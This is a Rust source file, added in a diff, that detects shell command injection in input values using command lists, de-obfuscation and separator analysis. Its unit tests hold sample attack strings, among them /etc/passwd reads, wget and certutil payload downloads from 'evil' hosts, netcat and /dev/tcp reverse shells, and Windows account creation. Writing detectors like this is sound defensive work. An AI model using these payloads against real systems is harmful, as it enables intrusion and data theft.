@@ -1,0 +1,869 @@
+//! Command injection by shell syntax: a known command in a place where a
+//! shell would run it — at the start of the value, or after `;`, `|`,
+//! `&&`, a backquote, `$(`, a here-string or a newline — with the quoting,
+//! `$IFS` and empty-variable tricks that hide a command name undone first.
+
+/// Unix commands an attacker runs (recon, download, shells, interpreters,
+/// file readers, system tools).
+const UNIX: &[&str] = &[
+    "7z",
+    "7za",
+    "alias",
+    "ansible",
+    "ansible-config",
+    "ansible-console",
+    "ansible-doc",
+    "ansible-galaxy",
+    "ansible-inventory",
+    "ansible-playbook",
+    "ansible-pull",
+    "ansible-vault",
+    "apt",
+    "apt-get",
+    "aptitude",
+    "ar",
+    "aria2c",
+    "arp",
+    "as",
+    "ash",
+    "at",
+    "awk",
+    "base32",
+    "base64",
+    "basenc",
+    "bash",
+    "batch",
+    "bc",
+    "bpftrace",
+    "bridge",
+    "bundle",
+    "bundler",
+    "busctl",
+    "busybox",
+    "byebug",
+    "bzcat",
+    "bzip2",
+    "c89",
+    "c99",
+    "cancel",
+    "capsh",
+    "cat",
+    "cc",
+    "cd",
+    "certbot",
+    "check_by_ssh",
+    "chef-client",
+    "chef-run",
+    "chef-shell",
+    "chef-solo",
+    "chef-vault",
+    "chgrp",
+    "chmod",
+    "chown",
+    "chroot",
+    "chsh",
+    "cksum",
+    "clang",
+    "cmp",
+    "column",
+    "comm",
+    "composer",
+    "cowsay",
+    "cp",
+    "cpan",
+    "cpio",
+    "cpulimit",
+    "crash",
+    "crontab",
+    "cscli",
+    "csh",
+    "csplit",
+    "csvtool",
+    "ctr",
+    "cupsfilter",
+    "curl",
+    "cut",
+    "dash",
+    "date",
+    "dd",
+    "debugfs",
+    "dialog",
+    "diff",
+    "dig",
+    "dmesg",
+    "dmidecode",
+    "dmsetup",
+    "dnf",
+    "docker",
+    "dpkg",
+    "dstat",
+    "dvips",
+    "easy_install",
+    "eb",
+    "echo",
+    "ed",
+    "efax",
+    "emacs",
+    "enscript",
+    "env",
+    "eqn",
+    "espeak",
+    "ex",
+    "exiftool",
+    "expand",
+    "expect",
+    "facter",
+    "fetch",
+    "file",
+    "find",
+    "finger",
+    "fish",
+    "flock",
+    "fmt",
+    "fold",
+    "fping",
+    "ftp",
+    "gawk",
+    "gcc",
+    "gcloud",
+    "gcore",
+    "gdb",
+    "gem",
+    "genie",
+    "genisoimage",
+    "getent",
+    "ghc",
+    "ghci",
+    "gimp",
+    "git",
+    "grep",
+    "gtester",
+    "gzip",
+    "hd",
+    "head",
+    "hexdump",
+    "highlight",
+    "history",
+    "hostid",
+    "hostname",
+    "hping3",
+    "iconv",
+    "id",
+    "ifconfig",
+    "iftop",
+    "ionice",
+    "ip",
+    "ipconfig",
+    "irb",
+    "iptables",
+    "jjs",
+    "journalctl",
+    "jq",
+    "jrunscript",
+    "jshell",
+    "julia",
+    "kill",
+    "killall",
+    "knife",
+    "ksh",
+    "ksshell",
+    "kubectl",
+    "last",
+    "lastb",
+    "lastlog",
+    "lastlogin",
+    "latex",
+    "ld",
+    "ldconfig",
+    "less",
+    "lftp",
+    "links",
+    "ln",
+    "loginctl",
+    "logsave",
+    "look",
+    "lp",
+    "ls",
+    "lsattr",
+    "lsb_release",
+    "lsmod",
+    "lsof",
+    "lsusb",
+    "ltrace",
+    "lua",
+    "lualatex",
+    "luatex",
+    "lwp-download",
+    "lwp-request",
+    "lynx",
+    "mail",
+    "make",
+    "man",
+    "mawk",
+    "more",
+    "mount",
+    "mtr",
+    "mv",
+    "mysql",
+    "mysqldump",
+    "nano",
+    "nasm",
+    "nawk",
+    "nc",
+    "ncat",
+    "ncftp",
+    "neofetch",
+    "net",
+    "netcat",
+    "netstat",
+    "nice",
+    "nl",
+    "nmap",
+    "node",
+    "nohup",
+    "npm",
+    "nproc",
+    "nroff",
+    "nslookup",
+    "nsenter",
+    "octave",
+    "od",
+    "openssl",
+    "openvpn",
+    "opkg",
+    "passwd",
+    "paste",
+    "patch",
+    "pdb",
+    "pdflatex",
+    "pdftex",
+    "perf",
+    "perl",
+    "pg",
+    "php",
+    "php5",
+    "php7",
+    "php8",
+    "pic",
+    "pico",
+    "pidstat",
+    "ping",
+    "pip",
+    "pip3",
+    "pkexec",
+    "pkg",
+    "pkill",
+    "pr",
+    "printenv",
+    "printf",
+    "ps",
+    "psql",
+    "pry",
+    "puppet",
+    "python",
+    "python2",
+    "python3",
+    "rake",
+    "rc",
+    "readelf",
+    "red",
+    "redcarpet",
+    "restic",
+    "rev",
+    "rlogin",
+    "rlwrap",
+    "rm",
+    "rmdir",
+    "rmt",
+    "rmt-dump",
+    "rmt-tar",
+    "route",
+    "rpm",
+    "rsync",
+    "ruby",
+    "run-mailcap",
+    "run-parts",
+    "rview",
+    "rvim",
+    "sash",
+    "scp",
+    "screen",
+    "script",
+    "sed",
+    "service",
+    "setarch",
+    "setfacl",
+    "sftp",
+    "sg",
+    "sh",
+    "shuf",
+    "slsh",
+    "smbclient",
+    "socat",
+    "sort",
+    "split",
+    "sqlite3",
+    "ss",
+    "ssh",
+    "ssh-keygen",
+    "start-stop-daemon",
+    "stat",
+    "stdbuf",
+    "strace",
+    "strings",
+    "su",
+    "sudo",
+    "sysctl",
+    "systemctl",
+    "tac",
+    "tail",
+    "tar",
+    "taskset",
+    "tbl",
+    "tclsh",
+    "tcpdump",
+    "tcsh",
+    "tee",
+    "telnet",
+    "tex",
+    "tftp",
+    "tic",
+    "time",
+    "timedatectl",
+    "timeout",
+    "tmux",
+    "top",
+    "touch",
+    "tr",
+    "traceroute",
+    "troff",
+    "ul",
+    "uname",
+    "unexpand",
+    "uniq",
+    "unshare",
+    "unzip",
+    "update-alternatives",
+    "useradd",
+    "usermod",
+    "uudecode",
+    "uuencode",
+    "valgrind",
+    "vi",
+    "view",
+    "vigr",
+    "vim",
+    "vimdiff",
+    "vipw",
+    "virsh",
+    "visudo",
+    "volatility",
+    "w",
+    "wall",
+    "watch",
+    "wc",
+    "wget",
+    "whiptail",
+    "who",
+    "whoami",
+    "whois",
+    "wish",
+    "xargs",
+    "xdotool",
+    "xelatex",
+    "xetex",
+    "xmodmap",
+    "xmore",
+    "xpad",
+    "xxd",
+    "xz",
+    "yarn",
+    "yash",
+    "yelp",
+    "yes",
+    "yum",
+    "zathura",
+    "zip",
+    "zsh",
+    "zsoelim",
+    "zypper",
+];
+
+/// Commands that are also everyday words: at the start of a value or after
+/// a weak separator they count only with shell-like arguments.
+const AMBIGUOUS: &[&str] = &[
+    "alias",
+    "apt",
+    "ar",
+    "as",
+    "at",
+    "batch",
+    "bc",
+    "bridge",
+    "cancel",
+    "cat",
+    "cd",
+    "column",
+    "comm",
+    "crash",
+    "cut",
+    "date",
+    "dialog",
+    "diff",
+    "ed",
+    "echo",
+    "env",
+    "ex",
+    "expand",
+    "expect",
+    "fetch",
+    "file",
+    "find",
+    "finger",
+    "fish",
+    "fmt",
+    "fold",
+    "genie",
+    "gem",
+    "git",
+    "hd",
+    "head",
+    "highlight",
+    "history",
+    "id",
+    "ip",
+    "kill",
+    "last",
+    "less",
+    "links",
+    "look",
+    "make",
+    "mail",
+    "man",
+    "more",
+    "mount",
+    "net",
+    "nice",
+    "node",
+    "pic",
+    "patch",
+    "paste",
+    "pg",
+    "ping",
+    "pr",
+    "red",
+    "rev",
+    "route",
+    "screen",
+    "script",
+    "service",
+    "sort",
+    "split",
+    "stat",
+    "strings",
+    "tail",
+    "tee",
+    "time",
+    "top",
+    "touch",
+    "view",
+    "w",
+    "wall",
+    "watch",
+    "who",
+    "wish",
+    "yes",
+];
+
+/// Commands an attacker runs alone to learn about the host.
+const RECON: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "uname",
+    "hostname",
+    "netstat",
+    "printenv",
+    "lsb_release",
+    "dmesg",
+    "lastlog",
+    "nproc",
+    "visudo",
+    "getent",
+    "lsmod",
+    "lsof",
+    "ps",
+];
+
+/// Words that hand the rest of the line to another command.
+const PREFIXES: &[&str] = &[
+    "builtin", "command", "do", "doas", "else", "env", "eval", "exec", "ionice", "nice", "nohup", "stdbuf", "strace",
+    "sudo", "taskset", "then", "time", "timeout", "xargs",
+];
+
+/// Files whose mention as an argument makes a command line shell-like.
+const SENSITIVE: &[&str] = &["passwd", "shadow", "hosts", "id_rsa", "authorized_keys", "win.ini", "sudoers", "group"];
+
+/// Undoes the usual ways to hide a command name from a pattern: quotes
+/// and backslashes inside words, `$IFS` for spaces, unset variables.
+fn unquote(s: &str) -> String {
+    let s = s.replace("${ifs}", " ").replace("$ifs", " ");
+    let b = s.as_bytes();
+    let mut out = String::with_capacity(s.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'\\' | b'\'' | b'"' => i += 1,
+            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
+            b'$' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') => {
+                i += 1;
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
+                    i += 1;
+                }
+            }
+            b'$' if b.get(i + 1) == Some(&b'{')
+                && s[i..].find('}').is_some_and(|e| !s[i + 2..i + e].contains([':', '$', '(', '#'])) =>
+            {
+                i += s[i..].find('}').unwrap_or(0) + 1;
+            }
+            _ => {
+                let ch = s[i..].chars().next().unwrap_or(' ');
+                out.push(ch);
+                i += ch.len_utf8();
+            }
+        }
+    }
+    out
+}
+
+/// How a command position was reached.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Position {
+    /// The start of the value.
+    Start,
+    /// After `;`, `|`, `&`, `(`, `{`: punctuation that prose uses too.
+    Weak,
+    /// After `&&`, `||`, a backquote, `$(`, `<<<`, `<(`, `>(`, a newline,
+    /// or a `;` with no space after it.
+    Strong,
+}
+
+fn word_end(b: &[u8], mut i: usize) -> usize {
+    while i < b.len()
+        && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'-' | b'.' | b'/' | b'+' | b'[' | b']'))
+    {
+        i += 1;
+    }
+    i
+}
+
+fn skip_spaces(b: &[u8], mut i: usize) -> usize {
+    while i < b.len() && matches!(b[i], b' ' | b'\t') {
+        i += 1;
+    }
+    i
+}
+
+fn shell_like_argument(rest: &str) -> bool {
+    let rest = rest.trim_start_matches([' ', '\t']);
+    let Some(c) = rest.chars().next() else { return false };
+    if matches!(c, '-' | '/' | '~' | '$' | '>' | '<' | '|' | '*' | '`') {
+        return true;
+    }
+    let b = rest.as_bytes();
+    let word = &rest[..word_end(b, 0)];
+    let base = word.rsplit('/').next().unwrap_or(word);
+    SENSITIVE.contains(&base) || (UNIX.contains(&base) && !AMBIGUOUS.contains(&base)) || word.starts_with("http")
+}
+
+/// Whether a command runs at byte `i` of `s` (reached as `how`).
+fn command_at(s: &str, i: usize, how: Position, depth: u8) -> bool {
+    let b = s.as_bytes();
+    let start = skip_spaces(b, i);
+    let end = word_end(b, start);
+    if end == start || depth > 3 {
+        return false;
+    }
+    let word = &s[start..end];
+    let name = word.rsplit('/').next().unwrap_or(word);
+    let rest = &s[end..];
+    if PREFIXES.contains(&name) && !rest.trim().is_empty() {
+        // `time ifconfig`, `sudo -u x id`, `timeout 5 sh`: the command follows.
+        let mut j = skip_spaces(b, end);
+        while j < b.len() && (b[j] == b'-' || b[j].is_ascii_digit()) {
+            j = skip_spaces(b, word_end(b, j + 1));
+        }
+        if command_at(s, j, how, depth + 1) {
+            return true;
+        }
+    }
+    if !UNIX.contains(&name) {
+        return false;
+    }
+    let pathed = word.contains('/');
+    match how {
+        Position::Strong => true,
+        _ if pathed => true,
+        _ if AMBIGUOUS.contains(&name) => shell_like_argument(rest),
+        Position::Weak => true,
+        // A value that starts with a command name is often just words
+        // ("python snake care"): it needs shell-like arguments, or to be
+        // a reconnaissance command on its own.
+        Position::Start => shell_like_argument(rest) || (rest.trim().is_empty() && RECON.contains(&name)),
+    }
+}
+
+/// Whether `s` (decoded, lowercased) runs a Unix command.
+pub fn unix_command(s: &str) -> bool {
+    let s = unquote(s);
+    let b = s.as_bytes();
+    if command_at(&s, 0, Position::Start, 0) {
+        return true;
+    }
+    let mut i = 0;
+    while i < b.len() {
+        let (how, len) = match b[i] {
+            b'`' | b'\n' | b'\r' => (Position::Strong, 1),
+            b'$' if b.get(i + 1) == Some(&b'(') => (Position::Strong, 2),
+            b'<' if s[i..].starts_with("<<<") => (Position::Strong, 3),
+            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Position::Strong, 2),
+            b'&' if b.get(i + 1) == Some(&b'&') => (Position::Strong, 2),
+            b'|' if b.get(i + 1) == Some(&b'|') => (Position::Strong, 2),
+            // `;id`, `x|id`: glued to the next word, as prose never is.
+            b';' | b'|' | b'&' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => {
+                (Position::Strong, 1)
+            }
+            b';' | b'|' | b'&' | b'(' | b'{' => (Position::Weak, 1),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if command_at(&s, i + len, how, 0) {
+            return true;
+        }
+        i += len;
+    }
+    false
+}
+
+/// Whether `s` defines a shell alias (`alias a=curl`, `alias -p x='id'`)
+/// where a shell would read it.
+pub fn alias(s: &str) -> bool {
+    let s = unquote(s);
+    let b = s.as_bytes();
+    let mut from = 0;
+    while let Some(at) = s[from..].find("alias").map(|i| i + from) {
+        from = at + 5;
+        let separated = s[..at].trim_end().is_empty() || s[..at].trim_end().ends_with([';', '|', '&', '`', '(', '\n']);
+        if !separated || !b.get(from).is_some_and(|c| *c == b' ' || *c == b'\t') {
+            continue;
+        }
+        let mut i = skip_spaces(b, from);
+        while i < b.len() && matches!(b[i], b'-' | b'+') {
+            i = skip_spaces(b, word_end(b, i + 1));
+        }
+        let name_end = s[i..].find(|c: char| c == '=' || c.is_whitespace()).map_or(b.len(), |e| e + i);
+        if name_end > i && b.get(name_end) == Some(&b'=') {
+            return true;
+        }
+    }
+    false
+}
+
+/// Windows commands an attacker runs after a separator (or alone).
+const WINDOWS: &[&str] = &[
+    "arp",
+    "at",
+    "attrib",
+    "bcdedit",
+    "bitsadmin",
+    "cacls",
+    "certreq",
+    "certutil",
+    "cipher",
+    "cmd",
+    "cmd.exe",
+    "cmdkey",
+    "cscript",
+    "csvde",
+    "del",
+    "dir",
+    "diskpart",
+    "dnscmd",
+    "dsquery",
+    "esentutl",
+    "expand",
+    "findstr",
+    "forfiles",
+    "fsutil",
+    "ftp",
+    "icacls",
+    "ipconfig",
+    "makecab",
+    "mshta",
+    "msiexec",
+    "nbtstat",
+    "net",
+    "net1",
+    "netsh",
+    "netstat",
+    "nltest",
+    "nslookup",
+    "odbcconf",
+    "pcalua",
+    "ping",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "qprocess",
+    "quser",
+    "reg",
+    "reg.exe",
+    "regedit",
+    "regini",
+    "regsvr32",
+    "rundll32",
+    "sc",
+    "schtasks",
+    "set",
+    "systeminfo",
+    "taskkill",
+    "tasklist",
+    "tracert",
+    "type",
+    "vssadmin",
+    "wevtutil",
+    "whoami",
+    "wmic",
+    "wscript",
+    "xcopy",
+];
+
+/// Whether `s` (decoded, lowercased) runs a Windows command after a
+/// separator, or names one of the tools attackers abuse at the start.
+pub fn windows_command(s: &str) -> bool {
+    let s = s.replace(['^', '"'], "");
+    let b = s.as_bytes();
+    let mut positions = vec![(0, false)];
+    for (i, c) in b.iter().enumerate() {
+        if matches!(c, b';' | b'|' | b'&' | b'\n' | b'`') {
+            positions.push((i + 1, true));
+        }
+    }
+    positions.into_iter().any(|(p, separated)| {
+        let start = skip_spaces(b, p);
+        let mut end = start;
+        while end < b.len() && (b[end].is_ascii_alphanumeric() || matches!(b[end], b'.' | b'_' | b'\\' | b':')) {
+            end += 1;
+        }
+        let word = &s[start..end];
+        let name = word.rsplit('\\').next().unwrap_or(word);
+        let rest = s[end..].trim_start();
+        let net = matches!(name, "net" | "net1")
+            && ["user", "localgroup", "group", "share", "use", "view", "start", "stop", "accounts", "session"]
+                .iter()
+                .any(|w| rest.starts_with(w));
+        WINDOWS.contains(&name) && net
+            || WINDOWS.contains(&name)
+                && (separated && (rest.starts_with(['/', '-']) || rest.starts_with("http") || name.len() > 4)
+                    || matches!(
+                        name,
+                        "powershell"
+                            | "powershell.exe"
+                            | "cmd.exe"
+                            | "certutil"
+                            | "bitsadmin"
+                            | "mshta"
+                            | "regsvr32"
+                            | "rundll32"
+                            | "wmic"
+                    ) && (rest.starts_with(['/', '-']) || rest.contains("http")))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn unix_attacks() {
+        for a in [
+            ";cat /etc/passwd",
+            "; cat /etc/passwd",
+            "x|id",
+            "`whoami`",
+            "$(curl http://x)",
+            "a && wget http://evil/x.sh",
+            "time sh -c whoami",
+            "time; ansible all -m ping",
+            "code=;find /etc -name passwd -exec cat {} +",
+            "cd /;cd etc;column passwd",
+            ";`cat<<<sh -c whoami`",
+            "ti''me sh -c whoami",
+            "a; sh$xx -c whoami",
+            "/bin/bash -i",
+            "ls -l /etc/passwd",
+            "ifconfig",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            ";lastlog -u root",
+            "d=/dev&&(sh)0>$d/tcp/1.2.3.4/777",
+        ] {
+            assert!(unix_command(a), "{a}");
+        }
+    }
+
+    #[test]
+    fn prose() {
+        for t in [
+            "find my order",
+            "cat pictures",
+            "terms & conditions",
+            "more info; see below",
+            "time to go",
+            "who are you",
+            "last night (at home)",
+            "head office | contact",
+            "echo chamber",
+            "salt & pepper",
+            "make it so",
+            "ping pong",
+            "the date is tomorrow",
+            "sort by price",
+            "id",
+            "yes",
+            "python snake care",
+            "docker compose tutorial",
+            "at&t customer service",
+        ] {
+            assert!(!unix_command(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn aliases() {
+        for a in ["alias a=b", "alias -p jzfrx=id", "alias 'letter'=curl&letter x", "x; alias +m a=b", "alias ..=cd .."]
+        {
+            assert!(alias(a), "{a}");
+        }
+        for t in ["an alias is a name", "alias: bob", "alias=x"] {
+            assert!(!alias(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn windows() {
+        for a in [
+            "; regedit /e c:\\ads\\file.txt",
+            "; mshta http://example.com",
+            "; certutil -urlcache -f http://evil.com/payload.exe",
+            "powershell -enc abc",
+            "| net user admin /add",
+        ] {
+            assert!(windows_command(a), "{a}");
+        }
+        for t in ["net income", "set the table", "type here", "dir: north", "powershell tips"] {
+            assert!(!windows_command(t), "{t}");
+        }
+    }
+}
